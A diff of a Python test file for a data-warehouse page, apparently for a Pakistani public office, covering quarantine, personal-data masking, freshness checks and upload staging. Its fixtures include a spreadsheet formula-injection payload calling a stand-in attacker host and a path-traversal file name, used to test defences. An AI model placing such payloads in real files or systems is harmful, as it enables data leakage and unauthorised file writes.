@@ -1,4 +1,6 @@
-"""The Data page's read side (etl/operations.py) on warehouses built by the real ETL.
+"""The Data page's read model (metrics.loads, .quarantine, .freshness, .validation),
+masking (core.masking), upload staging and previews (etl.uploads, etl.previews),
+on warehouses built by the real ETL.
 
 Two register files are loaded as staff would: ``week1.csv`` with four bad
 rows full of personal data, formula payloads and Urdu text, then
@@ -25,12 +27,14 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from core import csv_safety
+from core import csv_safety, masking, sources
 from core.errors import FileRejected
 from core.warehouse import reading
-from etl import operations
+from etl import uploads
 from etl.load import load_paths, make_context
+from etl.previews import preview_files
 from etl.rollback import rollback
+from metrics import freshness, loads, quarantine, validation
 from tests.etl_helpers import read_warehouse, register_row, write_register
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x","click")'
@@ -150,7 +154,7 @@ def load_id_of(path: Path, file_name: str) -> str:
 
 
 def test_history_counts_each_load(built: dict[str, Path]) -> None:
-    history = query(built["second"], operations.load_history)
+    history = query(built["second"], loads.load_history)
     assert history["file_name"].tolist() == ["week2.csv", "week1.csv"]  # newest first
     week2, week1 = (history.iloc[i] for i in range(2))
     # week1: 7 rows; K-4..K-7 fail a check; K-1..K-3 are new.
@@ -184,7 +188,7 @@ def test_history_counts_each_load(built: dict[str, Path]) -> None:
 
 
 def test_quarantine_summary_and_filters(built: dict[str, Path]) -> None:
-    summary = query(built["first"], operations.quarantine_summary)
+    summary = query(built["first"], quarantine.quarantine_summary)
     counts = dict(zip(summary["check"], summary["n_rows"], strict=True))
     assert counts == {
         "channel is one of the accepted values": 2,  # K-4, K-5
@@ -193,10 +197,10 @@ def test_quarantine_summary_and_filters(built: dict[str, Path]) -> None:
         "several checks failed (received_at)": 1,
     }
     channel_key = summary.loc[summary["column_name"] == "channel", "check_key"].item()
-    rows = query(built["first"], operations.quarantine_rows, checks=[channel_key])
+    rows = query(built["first"], quarantine.quarantine_rows, checks=[channel_key])
     assert sorted(rows["record_id"]) == ["K-4", "K-5"]
-    assert query(built["first"], operations.quarantine_rows, sources=["city311"]).empty
-    everything = query(built["first"], operations.quarantine_rows, sources=["register"])
+    assert query(built["first"], quarantine.quarantine_rows, sources=["city311"]).empty
+    everything = query(built["first"], quarantine.quarantine_rows, sources=["register"])
     assert sorted(everything["record_id"]) == ["K-4", "K-5", "K-6", "K-7"]
     # Spreadsheet rows: header is row 1, K-1 row 2, ... K-7 row 8.
     assert dict(zip(everything["record_id"], everything["source_row"], strict=True)) == {
@@ -205,13 +209,13 @@ def test_quarantine_summary_and_filters(built: dict[str, Path]) -> None:
         "K-6": 7,
         "K-7": 8,
     }
-    assert query(built["first"], operations.quarantine_rows, limit=1).shape[0] == 1
+    assert query(built["first"], quarantine.quarantine_rows, limit=1).shape[0] == 1
 
 
 def test_fixed_rows_leave_quarantine_end_to_end(built: dict[str, Path]) -> None:
-    still = query(built["second"], operations.quarantine_rows)
+    still = query(built["second"], quarantine.quarantine_rows)
     assert sorted(still["record_id"]) == ["K-6", "K-7"]
-    with_fixed = query(built["second"], operations.quarantine_rows, include_cleared=True)
+    with_fixed = query(built["second"], quarantine.quarantine_rows, include_cleared=True)
     cleared = with_fixed.dropna(subset=["cleared_by_load_id"])
     assert sorted(cleared["record_id"]) == ["K-4", "K-5"]
     assert set(cleared["cleared_by_load_id"]) == {load_id_of(built["second"], "week2.csv")}
@@ -231,7 +235,7 @@ def csv_rows(data: bytes) -> list[dict[str, str]]:
 
 
 def test_quarantine_csv_masks_personal_data(built: dict[str, Path]) -> None:
-    data = query(built["first"], operations.quarantine_csv)
+    data = query(built["first"], quarantine.quarantine_csv)
     text = data.decode("utf-8-sig")
     for person in PEOPLE.values():
         for column, value in person.items():
@@ -243,7 +247,7 @@ def test_quarantine_csv_masks_personal_data(built: dict[str, Path]) -> None:
     assert set(rows) == {"K-4", "K-5", "K-6", "K-7"}
     k4 = rows["K-4"]
     assert k4["requester_name"] == "A. K."  # initials
-    assert k4["summary"] == operations.REMOVED
+    assert k4["summary"] == masking.REMOVED
     assert k4["requester_cnic"] == "•••••-•••••••-•"
     assert k4["requester_phone"] == "••••-•••••67"  # last two digits kept
     assert k4["requester_email"] == "a•••@•••"
@@ -254,7 +258,7 @@ def test_quarantine_csv_masks_personal_data(built: dict[str, Path]) -> None:
 
 
 def test_every_csv_cell_is_formula_safe_and_urdu_is_kept(built: dict[str, Path]) -> None:
-    rows = {r["record_id"]: r for r in csv_rows(query(built["first"], operations.quarantine_csv))}
+    rows = {r["record_id"]: r for r in csv_rows(query(built["first"], quarantine.quarantine_csv))}
     for row in rows.values():
         for header, cell in row.items():
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, cell)
@@ -291,7 +295,7 @@ def test_tables_shown_are_formula_safe_too() -> None:
 
 
 def test_browse_rows_are_masked(built: dict[str, Path]) -> None:
-    rows = query(built["first"], operations.quarantine_rows)
+    rows = query(built["first"], quarantine.quarantine_rows)
     shown = " ".join(rows["row_as_read"]) + " ".join(rows["reason"])
     for person in PEOPLE.values():
         for value in person.values():
@@ -320,7 +324,7 @@ def test_personal_columns_by_meaning_not_just_words() -> None:
         "Phone number clicks",
         "Views",
     ]
-    assert operations.personal_columns(headers, "register") == {
+    assert masking.personal_columns(headers, "register") == {
         "Complainant Name": "name",
         "Mobile": "phone",
         "CNIC No": "cnic",
@@ -330,10 +334,8 @@ def test_personal_columns_by_meaning_not_just_words() -> None:
         "Home address": "text",
     }
     # The city311 mapping reads its case_title as the register's summary.
-    assert operations.personal_columns(["case_title", "open_dt"], "city311") == {
-        "case_title": "text"
-    }
-    assert operations.personal_columns(["inquiry_id", "event", "at", "actor"], "events") == {
+    assert masking.personal_columns(["case_title", "open_dt"], "city311") == {"case_title": "text"}
+    assert masking.personal_columns(["inquiry_id", "event", "at", "actor"], "events") == {
         "actor": "name"
     }
 
@@ -341,12 +343,12 @@ def test_personal_columns_by_meaning_not_just_words() -> None:
 def test_platform_exports_keep_their_public_text() -> None:
     headers = ["Post ID", "Page name", "Title", "Description", "Phone number clicks", "Email"]
     # The cell's own posts are public: only a column named like contact data is masked.
-    assert operations.personal_columns(headers, "meta_content") == {"Email": "email"}
+    assert masking.personal_columns(headers, "meta_content") == {"Email": "email"}
 
 
 def test_scrub_text_finds_numbers_and_mail_in_free_text() -> None:
     text = "call 0300 1234567 or +92-91-5551234, cnic 17301-1234567-1, a@b.pk; post 1896545432123456789"
-    assert operations.scrub_text(text) == (
+    assert masking.scrub_text(text) == (
         "call ••• or •••, cnic •••••-•••••••-•, •••@•••; post 1896545432123456789"
     )
 
@@ -359,7 +361,7 @@ def test_scrub_text_finds_numbers_and_mail_in_free_text() -> None:
 def test_freshness_and_stale_message(built: dict[str, Path], tmp_path: Path) -> None:
     # Latest valid received_at over both loads: K-5, 2025-03-07 02:00 PKT
     # (2025-03-06 21:00 UTC, so the Pakistan date is the 7th). 16 March - 7 March = 9 days.
-    fresh = query(built["second"], operations.freshness, date(2025, 3, 16))
+    fresh = query(built["second"], freshness.freshness, date(2025, 3, 16))
     row = fresh.set_index("source").loc["register"]
     assert pd.Timestamp(row["latest_covered_date"]).date() == date(2025, 3, 7)
     assert row["latest_covered_at"] == pd.Timestamp("2025-03-06 21:00", tz="UTC")
@@ -369,20 +371,20 @@ def test_freshness_and_stale_message(built: dict[str, Path], tmp_path: Path) -> 
 
     config = tmp_path / "freshness.yaml"
     config.write_text("default_days: 7\nsources:\n  events: 3\n", encoding="utf-8")
-    stale = operations.stale_sources(fresh, operations.load_thresholds(config), "inquiries")
-    assert operations.stale_message(stale.iloc[0]) == (
+    stale = freshness.stale_sources(fresh, freshness.load_thresholds(config), "inquiries")
+    assert freshness.stale_message(stale.iloc[0]) == (
         "Inquiry register data ends 9 days ago (7 Mar 2025; stale after 7 days)."
     )
     # A page about social data only: the register is none of its business.
-    assert operations.stale_sources(fresh, operations.load_thresholds(config), "social").empty
+    assert freshness.stale_sources(fresh, freshness.load_thresholds(config), "social").empty
     config.write_text("default_days: 7\nsources:\n  inquiry register: 10\n", encoding="utf-8")
-    assert operations.stale_sources(fresh, operations.load_thresholds(config)).empty
+    assert freshness.stale_sources(fresh, freshness.load_thresholds(config)).empty
     config.write_text("sources:\n  register: null\n", encoding="utf-8")
-    assert operations.stale_sources(fresh, operations.load_thresholds(config)).empty
+    assert freshness.stale_sources(fresh, freshness.load_thresholds(config)).empty
 
 
 def test_shipped_thresholds_are_read() -> None:
-    thresholds = operations.load_thresholds()
+    thresholds = freshness.load_thresholds()
     assert thresholds.days_for("register") == 7
     assert thresholds.days_for("x_tweet_activity") is None
     assert thresholds.days_for("some_new_source") == thresholds.default_days
@@ -394,18 +396,18 @@ def test_rolled_back_load_leaves_history_quarantine_and_freshness(
     copy = tmp_path / "warehouse.duckdb"
     shutil.copy(built["second"], copy)
     rollback(load_id_of(copy, "week2.csv"), warehouse=copy, by="Tester")
-    history = query(copy, operations.load_history).set_index("file_name")
+    history = query(copy, loads.load_history).set_index("file_name")
     assert history.loc["week2.csv", "outcome"] == "rolled back"
     assert "by Tester" in history.loc["week2.csv", "message"]
     # K-4 and K-5 are back in quarantine.
-    assert sorted(query(copy, operations.quarantine_rows)["record_id"]) == [
+    assert sorted(query(copy, quarantine.quarantine_rows)["record_id"]) == [
         "K-4",
         "K-5",
         "K-6",
         "K-7",
     ]
     # Only week1 is in effect: its latest valid row is K-3, 2025-03-04 11:00 PKT.
-    fresh = query(copy, operations.freshness, date(2025, 3, 16)).set_index("source")
+    fresh = query(copy, freshness.freshness, date(2025, 3, 16)).set_index("source")
     assert pd.Timestamp(fresh.loc["register", "latest_covered_date"]).date() == date(2025, 3, 4)
     assert (fresh.loc["register", "days_behind"], fresh.loc["register", "n_loads"]) == (12, 1)
 
@@ -417,7 +419,7 @@ def test_rolled_back_load_leaves_history_quarantine_and_freshness(
 
 def test_validation_report_in_plain_words(built: dict[str, Path]) -> None:
     report = query(
-        built["second"], operations.validation_report, load_id_of(built["second"], "week1.csv")
+        built["second"], validation.validation_report, load_id_of(built["second"], "week1.csv")
     )
     failing = report[~report["passed"]]
     assert dict(zip(failing["check"], failing["rows_failing"], strict=True)) == {
@@ -431,7 +433,7 @@ def test_validation_report_in_plain_words(built: dict[str, Path]) -> None:
     assert HYPERLINK in channel["examples"] and URDU_CHANNEL in channel["examples"]
     assert report["passed"].sum() == len(report) - 4
     clean = query(
-        built["second"], operations.validation_report, load_id_of(built["second"], "week2.csv")
+        built["second"], validation.validation_report, load_id_of(built["second"], "week2.csv")
     )
     assert clean["passed"].all() and (clean["rows_failing"] == 0).all()
     stored = read_warehouse(
@@ -457,7 +459,7 @@ def test_validation_report_in_plain_words(built: dict[str, Path]) -> None:
     ],
 )
 def test_expectation_words(expectation: str, column: str, words: str) -> None:
-    assert operations.expectation_words(expectation, column) == words
+    assert validation.expectation_words(expectation, column) == words
 
 
 # ---------------------------------------------------------------------------
@@ -484,12 +486,12 @@ def test_preview_files_tells_what_loading_would_do(built: dict[str, Path], tmp_p
     pdf = tmp_path / "scan.pdf"
     pdf.write_bytes(b"%PDF-1.4 not a table")
     worklist = tmp_path / "quarantine.csv"
-    worklist.write_bytes(query(built["first"], operations.quarantine_csv))
+    worklist.write_bytes(query(built["first"], quarantine.quarantine_csv))
     resaved = tmp_path / "quarantine fixed.xlsx"  # the same, opened and saved by Excel
     pd.read_csv(worklist, encoding="utf-8-sig", dtype=str).to_excel(resaved, index=False)
 
     paths = [week3, built["week1"], archive, pdf, worklist, resaved]
-    previews = operations.preview_files(
+    previews = preview_files(
         paths, warehouse=built["second"], context=make_context(), workdir=tmp_path / "work"
     )
     by_name = {p.name: p for p in previews}
@@ -508,9 +510,8 @@ def test_preview_files_tells_what_loading_would_do(built: dict[str, Path], tmp_p
     # Valid rows only: K-2 (3 Mar 10:00 PKT) to K-8 (8 Mar 10:00 PKT).
     assert plan.covers_from == pd.Timestamp("2025-03-03 05:00", tz="UTC")
     assert plan.covers_to == pd.Timestamp("2025-03-08 05:00", tz="UTC")
-    assert "category is one of the accepted values" in set(
-        plan.results.loc[~plan.results["passed"], "check"]
-    )
+    results = validation.results_frame(plan.results)
+    assert "category is one of the accepted values" in set(results.loc[~results["passed"], "check"])
     assert plan.preview.index.tolist() == [2, 3, 4, 5]  # spreadsheet rows
     preview_text = plan.preview.to_csv()
     for value in PEOPLE["K-6"].values():
@@ -537,7 +538,7 @@ def test_youtube_studio_zip_is_previewed_member_by_member(tmp_path: Path) -> Non
     archive = tmp_path / "Content 2025-01-01_2025-03-31 KP Police.zip"
     with zipfile.ZipFile(archive, "w") as zipped:
         zipped.write(sample, "Table data.csv")
-    (preview,) = operations.preview_files(
+    (preview,) = preview_files(
         [archive], warehouse=tmp_path / "none.duckdb", context=make_context(), workdir=tmp_path
     )
     with sample.open(encoding="utf-8-sig", newline="") as handle:
@@ -562,14 +563,14 @@ def test_youtube_studio_zip_is_previewed_member_by_member(tmp_path: Path) -> Non
 
 
 def test_stage_upload_stays_in_its_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    path = operations.stage_upload(tmp_path, 0, "../../etc/register.csv", b"a,b\n1,2\n")
+    path = uploads.stage_upload(tmp_path, 0, "../../etc/register.csv", b"a,b\n1,2\n")
     assert path == tmp_path / "000" / "register.csv"
     assert path.read_bytes() == b"a,b\n1,2\n"
-    urdu = operations.stage_upload(tmp_path, 1, "رجسٹر مارچ.csv", b"x")
+    urdu = uploads.stage_upload(tmp_path, 1, "رجسٹر مارچ.csv", b"x")
     assert urdu.name == "رجسٹر مارچ.csv"
-    monkeypatch.setattr(operations, "MAX_FILE_BYTES", 4)
+    monkeypatch.setattr(uploads, "MAX_FILE_BYTES", 4)
     with pytest.raises(FileRejected, match="the file is 5 bytes; the limit is 4 bytes"):
-        operations.stage_upload(tmp_path, 2, "big.csv", b"12345")
+        uploads.stage_upload(tmp_path, 2, "big.csv", b"12345")
 
 
 def test_upload_folders_are_private_and_do_not_pile_up(
@@ -583,11 +584,11 @@ def test_upload_folders_are_private_and_do_not_pile_up(
         (folder / "000" / "register.csv").write_text("personal data")
     two_days_ago = time.time() - 2 * 24 * 3600
     os.utime(old, (two_days_ago, two_days_ago))
-    folder = operations.upload_folder()
+    folder = uploads.upload_folder()
     assert folder.parent == tmp_path and folder.name.startswith("kp-upload-")
     assert stat.S_IMODE(folder.stat().st_mode) == 0o700
     assert not old.exists() and recent.exists()
-    staged = operations.stage_upload(folder, 0, "r.csv", b"x")
+    staged = uploads.stage_upload(folder, 0, "r.csv", b"x")
     assert stat.S_IMODE(staged.stat().st_mode) == 0o600
 
 
@@ -606,19 +607,91 @@ def test_advice_follows_operations_doc() -> None:
         "the limit is",
         "another load is running",
     ):
-        advice = dict(operations.ADVICE)[needle]
+        advice = dict(uploads.ADVICE)[needle]
         assert advice.rstrip(".").split(":")[0].lower() in doc, needle
-    assert operations.advice_for(
-        "x.csv: the zip archive is damaged (bad CRC); download it again"
-    ) == ("The download was interrupted: download it again.")
-    assert operations.advice_for("x.csv: something new").startswith("Check that this is")
+    assert uploads.advice_for("x.csv: the zip archive is damaged (bad CRC); download it again") == (
+        "The download was interrupted: download it again."
+    )
+    assert uploads.advice_for("x.csv: something new").startswith("Check that this is")
 
 
 def test_who_loads() -> None:
-    assert operations.who_loads("  Sana   Gul ") == "Sana Gul"
-    assert operations.who_loads("") == operations.who_loads(None) != ""
+    assert uploads.who_loads("  Sana   Gul ") == "Sana Gul"
+    assert uploads.who_loads("") == uploads.who_loads(None) != ""
 
 
 def test_masked_original_handles_json_text() -> None:
     record = json.dumps({"_source_row": 3, "Name": "Bilal Ahmad", "channel": "X"})
-    assert operations._masked_original(record, "register") == {"Name": "B. A.", "channel": "X"}
+    assert quarantine.masked_original(record, "register") == {"Name": "B. A.", "channel": "X"}
+
+
+# ---------------------------------------------------------------------------
+# Facts the read side keeps without importing the ETL (core.sources)
+# ---------------------------------------------------------------------------
+
+
+def test_groups_agree_with_the_sources_the_etl_reads() -> None:
+    from etl.detect import known_sources
+    from etl.sources import meta, tiktok, x_twitter, youtube
+    from etl.sources.mapped import load_mappings
+
+    exports = [*meta.SOURCES, *x_twitter.SOURCES, *youtube.SOURCES, *tiktok.SOURCES]
+    platforms = {s.source for s in exports}
+    mapped = [m.name for m in load_mappings()]
+    assert sources.inquiry_sources() == ("events", "register", *mapped)
+    for source in {s.source for s in known_sources()}:
+        if source in {"register", "events", *mapped}:
+            expected = "inquiries"
+        elif source in platforms:
+            expected = "social"
+        else:
+            expected = None  # e.g. a media register: neither page's business
+        assert sources.source_group(source) == expected, source
+
+
+def test_header_spellings_agree_with_the_etl() -> None:
+    from etl.detect import WORKLIST_COLUMNS
+    from etl.sources import events, inquiries
+
+    def items(aliases: dict) -> list:
+        return [(column, tuple(names)) for column, names in aliases.items()]
+
+    assert items(sources.REGISTER_HEADER_ALIASES) == items(inquiries.HEADER_ALIASES)
+    assert items(sources.EVENT_HEADER_ALIASES) == items(events.HEADER_ALIASES)
+    assert sources.WORKLIST_COLUMNS == WORKLIST_COLUMNS
+
+
+def test_a_deployment_mapping_is_known_to_masking_and_freshness(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "helpdesk.yaml").write_text(
+        "name: helpdesk\n"
+        "id_column: Ticket\n"
+        "columns:\n"
+        "  received_at: Opened\n"
+        "  requester_name: Customer\n",
+        encoding="utf-8",
+    )
+    monkeypatch.setenv("KP_MAPPINGS_DIR", str(tmp_path))
+    from etl.sources.mapped import load_mappings
+
+    assert sources.column_mappings() == [
+        (m.name, {"inquiry_id": m.id_column, **m.columns}) for m in load_mappings()
+    ]
+    assert sources.source_group("helpdesk") == "inquiries"
+    headers = ["Ticket", "Opened", "Customer", "District name", "Agent notes"]
+    # "Customer" is personal only because the mapping says it is the requester's name.
+    assert masking.personal_columns(headers, "helpdesk") == {
+        "Customer": "name",
+        "Agent notes": "text",
+    }
+
+
+def test_a_register_that_is_no_platform_export_keeps_full_masking() -> None:
+    headers = ["Outlet", "Journalist name", "Mobile", "Question"]
+    assert masking.personal_columns(headers, "media_queries") == {
+        "Journalist name": "name",
+        "Mobile": "phone",
+    }
+    # A platform export's columns: only contact data is masked.
+    assert masking.personal_columns(headers, "x_content") == {"Mobile": "phone"}
